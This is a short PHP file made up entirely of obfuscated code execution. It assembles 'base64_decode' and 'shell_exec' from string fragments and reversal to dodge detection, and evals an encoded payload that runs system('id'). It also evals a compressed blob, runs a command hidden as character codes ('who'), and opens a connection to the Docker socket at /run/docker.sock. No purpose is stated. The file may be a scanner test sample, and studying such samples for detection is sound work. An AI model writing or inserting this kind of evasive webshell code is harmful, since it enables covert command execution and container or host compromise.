<?php
$f = 'base' . '64_de' . 'code';
eval($f('c3lzdGVtKCdpZCcpOw=='));
eval(gzinflate(base64_decode('K0gsLi7JKCrVUC/NS8xNVdBNVNe0BgA=')));
$g = strrev('lleh' . 's') . '_exec';
shell_exec(implode('', array_map('chr', array(119,104,111))));
$x = "\x2frun\x2fdocker.sock";
stream_socket_client("unix://" . $x);
?>
